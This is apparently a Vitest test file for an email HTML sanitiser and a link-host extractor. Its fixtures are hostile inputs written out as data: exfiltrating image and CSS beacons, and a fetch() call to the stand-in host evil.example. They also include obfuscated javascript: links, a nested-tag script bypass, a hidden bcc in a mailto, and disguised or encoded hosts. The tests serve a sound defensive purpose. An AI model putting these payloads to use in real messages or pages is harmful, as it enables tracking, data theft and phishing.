import { describe, expect, test } from 'vitest'
import { findLinkHosts } from '../../../adapters/content/links.ts'
import { sanitiseHtml } from '../../../adapters/content/sanitise-html.ts'
import { collectTexts } from '../../../adapters/content/texts.ts'

describe('sanitised HTML loads nothing, runs nothing and hides nothing', () => {
  test.each([
    ['a remote image', '<p>Hi<img src="https://evil.example/?d=secret"></p>', '<p>Hi</p>'],
    ['a script', '<p>Hi</p><script>fetch("https://evil.example")</script>', '<p>Hi</p>'],
    ['a style sheet', '<style>@import "https://evil.example"</style><p>Hi</p>', '<p>Hi</p>'],
    ['a CSS background', '<p style="background:url(https://evil.example)">Hi</p>', '<p>Hi</p>'],
    [
      'a hidden block becomes visible',
      '<div style="display:none">secret</div>',
      '<div>secret</div>',
    ],
    ['a comment', '<p>Hi<!-- secret --></p>', '<p>Hi</p>'],
    ['a conditional comment', '<!--[if mso]><p>secret</p><![endif]--><p>Hi</p>', '<p>Hi</p>'],
    ['a frame', '<iframe src="https://evil.example"></iframe><p>Hi</p>', '<p>Hi</p>'],
    ['a form', '<form action="https://evil.example"><input name="a">Hi</form>', 'Hi'],
    ['SVG', '<svg><a href="https://evil.example"><text>x</text></a></svg><p>Hi</p>', '<p>Hi</p>'],
    [
      'a base and a link element',
      '<base href="https://evil.example"><link rel="prefetch" href="https://evil.example">Hi',
      'Hi',
    ],
    [
      'a refreshing meta',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">Hi',
      'Hi',
    ],
    ['a data: link', '<a href="data:text/html,x">Hi</a>', '<a>Hi</a>'],
    ['a javascript: link', '<a href="java\tscript:alert(1)">Hi</a>', '<a>Hi</a>'],
    ['a cid: link', '<a href="cid:x">Hi</a>', '<a>Hi</a>'],
    ['a relative link', '<a href="//evil.example/x">Hi</a>', '<a>Hi</a>'],
    ['a link with a user part', '<a href="https://bank.example@evil.example/">Hi</a>', '<a>Hi</a>'],
    [
      'a mailto with further recipients',
      '<a href="mailto:a@b.example?bcc=eve@evil.example">Hi</a>',
      '<a href="mailto:a@b.example">Hi</a>',
    ],
    [
      'attributes',
      '<p id="a" class="b" title="secret" data-x="secret" onclick="x()">Hi</p>',
      '<p>Hi</p>',
    ],
    ['zero-width characters written as entities', '<p>H&#8203;i&#x200b;&#xE0041;</p>', '<p>Hi</p>'],
    [
      'a tag inside a removed tag',
      '<scr<script>ipt>alert(1)</script><p>Hi</p>',
      'ipt&gt;alert(1)<p>Hi</p>',
    ],
    ['an unclosed tag', '<p>Hi <b>there', '<p>Hi <b>there</b></p>'],
  ])('%s', (_name, html, expected) => {
    const clean = sanitiseHtml(html)
    expect(clean).toBe(expected)
    expect(sanitiseHtml(clean)).toBe(clean)
  })

  test('keeps what people write', () => {
    const html =
      '<h2>Order</h2><p>Hello <b>Alice</b> &amp; <i>Bob</i>,<br />see <a href="https://acme.example/a?b=1&amp;c=2">here</a></p>' +
      '<ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table><blockquote>old</blockquote>'
    expect(sanitiseHtml(html)).toBe(html)
  })
})

describe('links are found where a mail client makes them', () => {
  test.each([
    ['a URL', 'see https://evil.example/?d=1.', ['evil.example']],
    ['a URL in other case', 'HTTPS://EVIL.example/x', ['evil.example']],
    ['a bare host with a path', 'evil.example/x', ['evil.example']],
    ['a bare host', 'go to evil.com now', ['evil.com']],
    ['a host with data in a label', 'c2VjcmV0.evil.com', ['c2vjcmv0.evil.com']],
    ['www', 'www.evil.pdf', ['www.evil.pdf']],
    ['an internationalised host', 'https://bücher.example', ['xn--bcher-kva.example']],
    ['full-width dots', 'evil。com', ['evil.com']],
    ['an IPv4 address', 'http://192.0.2.7/x', ['192.0.2.7']],
    ['a number as address', 'http://3221225991/', ['192.0.2.7']],
    ['an IPv6 address', 'http://[2001:db8::1]/', ['[2001:db8::1]']],
    ['a URL with a user part', 'https://acme.example@evil.example/', ['evil.example']],
    ['another scheme', 'ftp://evil.example', ['evil.example']],
    ['a link at the end of a sentence', 'see (https://acme.example/a), please.', ['acme.example']],
    [
      'a link inside a link',
      'https://acme.example/?u=https://evil.example/x',
      ['acme.example', 'evil.example'],
    ],
    [
      'two links with a comma',
      'https://acme.example/,https://evil.example/',
      ['acme.example', 'evil.example'],
    ],
    ['a link behind a bracket', 'https://acme.example/)evil.com/x', ['acme.example', 'evil.com']],
    [
      'a user part with punctuation',
      'https://acme.example;x@evil.example',
      ['evil.example', 'acme.example'],
    ],
    [
      'a user part with a backslash',
      'https://acme.example\\@evil.com',
      ['acme.example', 'evil.com'],
    ],
    ['a mailto in a text', 'mailto:eve@evil.com', ['evil.com']],
    ['fourteen labels', 'a.a.a.a.a.a.a.a.a.a.a.a.1.com', ['a.a.a.a.a.a.a.a.a.a.a.a.1.com']],
    ['a mail address is none', 'write to alice@customer.example please', []],
    ['a mail address with a path is one', 'alice@evil.example/x', ['evil.example']],
    ['a file name is none', 'see report.pdf and e.g. v1.2', []],
    ['a file name with a path is one', 'evil.pdf/x', ['evil.pdf']],
  ])('%s', (_name, text, hosts) => {
    expect(findLinkHosts(text, undefined)).toEqual(hosts)
  })

  test('the target of a link counts, and so does its text', () => {
    const html = sanitiseHtml(
      '<a href="https://evil.example/?a&amp;b">acme.com</a> <a href="mailto:eve@evil.org">x</a>',
    )
    expect(findLinkHosts(undefined, html)).toEqual(['evil.example', 'evil.org', 'acme.com'])
  })
})

test('texts hold the text, the HTML as read, link targets, names and text attachments', () => {
  const texts = collectTexts(
    {
      text: 'four',
      html: sanitiseHtml('<p>41<b>11</b> &lt;x&gt;</p><a href="https://a.example/%34%32">y</a>'),
      attachments: [
        { filename: 'a.csv', content: Buffer.from('1,2') },
        { filename: 'b.txt', content: Buffer.from('caf\xe9', 'latin1') },
        { filename: 'c.txt', content: Buffer.from('\ufeffwide', 'utf16le') },
        { filename: 'd.png', content: Buffer.from([0x89, 0x50, 0, 1]) },
      ],
    },
    ['Alice'],
  )
  expect(texts).toEqual([
    'four',
    '4111 <x>y',
    'https://a.example/42',
    'Alice',
    'a.csv',
    'b.txt',
    'c.txt',
    'd.png',
    '1,2',
    'café',
    'wide',
  ])
})
